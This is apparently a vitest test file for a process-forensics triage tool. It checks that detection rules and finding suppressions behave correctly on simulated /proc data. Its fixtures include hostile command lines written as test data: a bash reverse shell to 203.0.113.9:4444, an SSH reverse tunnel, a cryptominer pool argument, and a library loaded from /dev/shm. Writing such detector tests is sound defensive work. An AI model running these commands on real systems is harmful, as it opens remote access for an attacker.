import { describe, expect, test } from 'vitest';
import { loaded } from '../../../../test/support/loaded.ts';
import { TABLES } from '../tables/index.ts';
import type { Finding } from './finding.ts';
import { ownRules } from './load-rules.ts';
import { Suppressions } from './suppress.ts';
import { askCase, triage } from './triage.ts';
import { OF_PROCESSES } from './without-own.ts';

/** Keys: who suppresses something ordinary must still be told of what is not. */

interface Process {
  readonly name: string;
  readonly exe: string;
  readonly args: readonly string[];
  readonly maps?: string;
}

function files(processes: Readonly<Record<number, Process>>): Record<string, string> {
  const all = Object.entries(processes).map(([pid, { name, exe, args, maps }]) => ({
    [`proc/${pid}/stat`]: `${pid} (${name}) S 1 ${pid} ${pid} 0 -1 4194304 0 0 0 0 10 5 0 0 20 0 1 0 2147 8192000 200 18446744073709551615 ${'0 '.repeat(26)}0\n`,
    [`proc/${pid}/links.list`]: `exe\t777\t100755,${exe.endsWith(')') ? 0 : 1},0,0,254:1,99,0:0,5\t>${exe}\n`,
    [`proc/${pid}/cmdline`]: args.map((arg) => `${arg}\0`).join(''),
    [`proc/${pid}/fd.list`]: '',
    ...(maps === undefined ? {} : { [`proc/${pid}/maps`]: maps }),
  }));
  return Object.assign({}, ...all);
}

async function findings(id: string, processes: Readonly<Record<number, Process>>): Promise<readonly Finding[]> {
  const db = await loaded({ files: files(processes) });
  const rules = ownRules().filter((rule) => rule.id === id);
  for await (const answer of triage(db, rules, 1, askCase(db))) return answer.findings;
  throw new Error(`no rule ${id}`);
}

const program = (exe: string, ...args: readonly string[]): Process => ({
  name: exe.replace(/ .*$/, '').replace(/^.*\//, '').slice(0, 15),
  exe,
  args,
});
const java = (library: string): Process => ({
  ...program('/usr/lib/jvm/java-17/bin/java', 'java', '-jar', 'app.jar'),
  maps: `7f0000000000-7f0000001000 r-xp 00000000 fe:01 99                         ${library}\n`,
});

describe.each<readonly [rule: string, known: Process, other: Process]>([
  [
    'one-liner',
    program('/usr/bin/bash', 'bash', '-c', 'echo aGk= | base64 -d > /etc/x.pem'),
    program('/usr/bin/bash', 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'),
  ],
  [
    'tunnel-tool',
    program('/usr/bin/ssh', 'ssh', '-N', '-D', '1080', 'me@home'),
    program('/usr/bin/ssh', 'ssh', '-N', '-R', '2222:localhost:22', 'u@203.0.113.9'),
  ],
  ['daemon-elsewhere', { ...program('/opt/ours/ssh-guard', 'sshd'), name: 'sshd' }, { ...program('/usr/share/x', 'sshd'), name: 'sshd' }],
  ['miner-command', program('/usr/bin/x', 'x', '--randomx', '--bench'), program('/usr/bin/x', 'x', '-o', 'stratum+tcp://pool:3333')],
  ['library-in-temp', java('/dev/shm/libcache1234.so'), java('/dev/shm/libkeyutils.so')],
])('%s', (rule, known, other) => {
  test('what is suppressed stays so with another number, and hides no other thing', async () => {
    const [first] = await findings(rule, { 30: known });
    const list = new Suppressions(`${first?.key}\n`, 'known');
    const later = await findings(rule, { 31: known, 40: other });
    expect(later).toHaveLength(2);
    expect(later.filter((finding) => !list.covers(finding)).map(({ row }) => row['pid'])).toEqual([40]);
  });
});

test('a library that was unpacked under another name made by chance has the same key', async () => {
  const keys = await Promise.all(
    ['/tmp/librocksdbjni731.so', '/tmp/librocksdbjni99812.so (deleted)'].map(
      async (path) => (await findings('library-unpacked', { 30: java(path) }))[0]?.key,
    ),
  );
  expect(new Set(keys).size).toBe(1);
  expect(keys[0]).toMatch(/^library-unpacked:\/usr\/lib\/jvm\/java-17\/bin\/java@[0-9a-f]{16}\|\/tmp\/librocksdbjni~[.]so$/);
});

test('a package upgrade, which deletes the file of what runs, changes no key and shows in the sentence', async () => {
  const [before] = await findings('exe-in-temp', { 30: program('/tmp/agent', 'agent') });
  const [after] = await findings('exe-in-temp', { 30: program('/tmp/agent (deleted)', 'agent') });
  expect(after?.key).toBe(before?.key);
  expect(String(after?.sentence)).toContain('/tmp/agent (deleted)');
});

test('the capture and what it started are judged by no rule, another process of that place is', async () => {
  const own = program('/dev/shm/coldstat-capture', 'coldstat-capture');
  const db = await loaded({
    files: { ...files({ 50: own, 60: own }), 'proc/51/stat': files({ 51: own })['proc/51/stat']?.replace(') S 1 ', ') S 50 ') ?? '' },
    header: { self: { pid: 50 } },
  });
  const rules = ownRules().filter(({ id }) => id === 'exe-in-temp');
  for await (const { findings: found } of triage(db, rules, 1, askCase(db))) expect(found.map(({ row }) => row['pid'])).toEqual([60]);
  const all: unknown[] = [];
  for await (const answer of triage(db, ownRules(), 1, askCase(db))) all.push(...answer.findings.map(({ row }) => row['pid']));
  expect(all).not.toContain(50);
  expect(all).not.toContain(51);
});

test('every table that tells of processes one by one is looked at without the capture', () => {
  const columns = ({ columns: all }: (typeof TABLES)[number]): string[] => all.map(([name]) => name);
  const about = TABLES.filter((table) => columns(table).includes('pid') && columns(table).includes('capture_id')).map(({ name }) => name);
  /** Where pid is who was asked, or a number that something else names. */
  const not = ['sources', 'namespaces', 'mounts', 'named_processes', 'locks', 'table_comparisons'];
  expect(about.filter((name) => !not.includes(name) && !OF_PROCESSES.some((one) => one === name))).toEqual([]);
});
